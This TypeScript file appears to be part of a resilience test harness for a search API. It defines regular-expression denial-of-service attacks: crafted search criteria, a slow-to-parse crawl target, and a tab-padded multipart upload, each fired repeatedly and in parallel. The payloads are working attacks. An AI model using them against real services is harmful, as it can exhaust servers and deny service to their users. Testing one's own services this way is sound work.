import { WebSocket } from 'ws';
import { type Attack, type AttackContext, postJson, someKey } from './attack.ts';
import { HOSTILE_ADDRESS } from './hostile-client.ts';

const WATCHED_MS = 20_000;

/** Criteria that a backtracking pattern would split in exponentially many ways. */
async function hostileCriteria(context: AttackContext): Promise<string> {
  const kind = context.random() < 0.5 ? 'people' : 'company';
  const ands = 20 + Math.floor(context.random() * 40);
  const prompt = `${kind} with experience in a${' and a'.repeat(ands)},b`;
  return (await postJson(context, `/api/v1/search/workflow/${kind}/start`, { prompt }, context.testKey)).status;
}

/** A run that reads a site whose robots.txt and pages are expensive to read. */
async function hostileSite(context: AttackContext): Promise<string> {
  const prompt = `Read ${context.sites.siteUrl}/ and list what is offered there`;
  const started = await postJson(context, '/api/v1/search/agent/agentic-crawler', { prompt }, context.testKey);
  await connectOnce(started.body);
  return started.status;
}

/** A reference file made for a cubic pattern. */
async function hostileReference(context: AttackContext): Promise<string> {
  const apiKey = someKey(context);
  const prompt = 'What do my documents say about fees? Use my documents only';
  const started = await postJson(context, '/api/v1/search/service-deep-search/start', { prompt }, apiKey);
  const threadId = /"thread_id":"([^"]+)"/.exec(started.body)?.[1];
  if (threadId === undefined) return started.status;
  const tabs = '\t'.repeat(2_200);
  const boundary = '----hostile';
  const body = [
    `--${boundary}\r\nContent-Disposition: form-data; name="thread_id"\r\n\r\n${threadId}\r\n`,
    `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\nContent-Type: text/plain\r\n\r\n`,
    `${tabs}-${tabs}*${tabs}x\r\n--${boundary}--\r\n`,
  ].join('');
  const headers = { 'content-type': `multipart/form-data; boundary=${boundary}` };
  const path = '/api/v1/search/service-deep-search/upload';
  const uploaded = await context.client.send('POST', path, { apiKey, body, headers });
  await connectOnce(started.body);
  return `${uploaded.status}`;
}

/** Connects to the run, so that it begins, and leaves after a while. */
async function connectOnce(started: string): Promise<void> {
  const url = /"websocket_url":"([^"]+)"/.exec(started)?.[1];
  if (url === undefined) return;
  const socket = new WebSocket(url, { localAddress: HOSTILE_ADDRESS } as ConstructorParameters<typeof WebSocket>[2]);
  await new Promise<void>((resolve) => {
    const leave = setTimeout(() => socket.terminate(), WATCHED_MS);
    socket.on('error', () => resolve());
    socket.on('close', () => {
      clearTimeout(leave);
      resolve();
    });
  });
}

export const RUN_ATTACKS: readonly Attack[] = [
  { name: 'criteria made for exponential patterns', everyMs: 3_000, parallel: 2, run: hostileCriteria },
  { name: 'sites made for slow patterns', everyMs: 5_000, parallel: 2, run: hostileSite },
  { name: 'reference files made for cubic patterns', everyMs: 5_000, parallel: 1, run: hostileReference },
];
